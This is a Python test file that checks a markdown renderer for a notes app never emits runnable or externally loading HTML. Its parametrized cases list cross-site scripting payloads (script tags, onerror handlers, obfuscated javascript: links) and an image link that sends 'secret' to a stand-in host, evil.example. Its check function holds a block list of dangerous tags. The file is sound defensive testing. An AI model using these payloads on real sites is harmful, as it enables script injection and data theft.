"""What people and models write, as HTML: what is shown, and that nothing of it runs or leaves."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.markdown import render

ALLOWED = {
    "href", "class", "target", "rel", "src", "alt", "loading", "type", "checked", "disabled", "data-k-box",
    "aria-label", "tabindex", "style", "title", "start", "data-k-copy-code", "xmlns",
}  # fmt: skip


class Read(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags(text, **options):
    read = Read()
    read.feed(render(text, **options))
    return read.tags


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html,<script>1</script>)",
        "[x](vbscript:x)",
        "[x](//evil.example/x)",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png?note=secret)",
        "![x](/api/v1/files/../../logout)",
        "<javascript:alert(1)>",
        "[[<img src=x onerror=alert(1)>]]",
        '[x](https://a.example "onmouseover=alert(1)")',
        "```<img onerror=1>\ncode\n```",
        "```js\n</code></pre><script>1</script>\n```",
        "$\\text{<script>alert(1)</script>}$",
        "$\\href{javascript:alert(1)}{x}$",
        "$$\\class{x}{y}\\style{background:url(//evil.example)}{z}$$",
        "- [ ] <b onclick=alert(1)>x</b>",
        "| a |\n|---|\n| <script>1</script> |",
        '<a href="https://x.example" onclick="x">y</a>',
        "[x]: javascript:alert(1)\n\n[x]",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_nothing_that_is_written_runs_or_loads_from_elsewhere(text):
    check(tags(text, links={"x": "/notes/1"}, copy="Copiar", checkable=True))


@given(st.text(max_size=400))
def test_nor_does_any_text(text):
    check(tags(text, copy="Copiar", checkable=True))


PARTS = (
    "<",
    ">",
    "[",
    "](",
    ")",
    "`",
    "$",
    "\\",
    "javascript:",
    "onerror=",
    '"',
    "'",
    "\n",
    "!",
    "x",
    "|",
    "- [ ] ",
)


@given(st.lists(st.sampled_from(PARTS), max_size=40))
def test_nor_does_what_is_made_to(pieces):
    check(tags("".join(pieces), copy="Copiar", checkable=True))


def check(found):
    for tag, attributes in found:
        assert tag not in {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "style",
            "link",
            "meta",
            "svg",
            "base",
        }
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, attributes)
            if tag in {"a", "img", "input", "div", "pre", "code", "span", "button"}:
                assert name in ALLOWED, (tag, attributes)
            if name == "href":
                assert re.match(r"(https?:|mailto:|/(?![/\\])|#)", value, re.IGNORECASE), value
            if name == "src":
                assert re.fullmatch(r"/api/v1/files/[0-9a-f]{32}", value)
            if name == "style":
                assert re.fullmatch(r"text-align:\s*\w+", value)


def test_links_between_notes_lead_where_one_may_go():
    shown = render("[[Energia do RACK]] e [[Nada]]", links={"energia do rack": "/notes/1"})
    assert '<a class="k-note-link" href="/notes/1">Energia do RACK</a>' in shown
    assert '<span class="k-no-note">Nada</span>' in shown


def test_boxes_are_numbered_in_the_order_of_the_text():
    shown = render("- [ ] um\n- [x] dois\n\n1. [ ] três\n\n[ ] não", checkable=True)
    assert re.findall(r'data-k-box="(\d)"', shown) == ["0", "1", "2"]
    assert shown.count(" checked") == 1
    assert "[ ] não" in shown
    assert "disabled" in render("- [ ] um")


def test_code_has_colours_a_name_and_a_button():
    shown = render("```python\ndef f(): pass\n```\n\n    sem nome", copy="Copiar")
    assert shown.count("data-k-copy-code") == 2
    assert '<span class="k-block-name">python</span>' in shown
    assert 'class="k-c-k"' in shown


def test_formulas_are_mathml_and_what_cannot_be_read_stays_as_typed():
    assert "<mfrac>" in render("$\\frac{a}{b}$")
    assert 'display="block"' in render("$$\n\\sum_{i=1}^n x_i\n$$")
    assert "R$ 5 e R$ 6" in render("custa R$ 5 e R$ 6")
    assert "<code>" in render("$\\begin{nothing}$")


def test_tables_and_the_rest_of_markdown_are_there():
    shown = render("# Um\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n~~fora~~ **forte**\nlinha")
    for part in ("<h1>Um</h1>", "<table>", 'style="text-align:right"', "<s>fora</s>", "<strong>", "<br"):
        assert part in shown
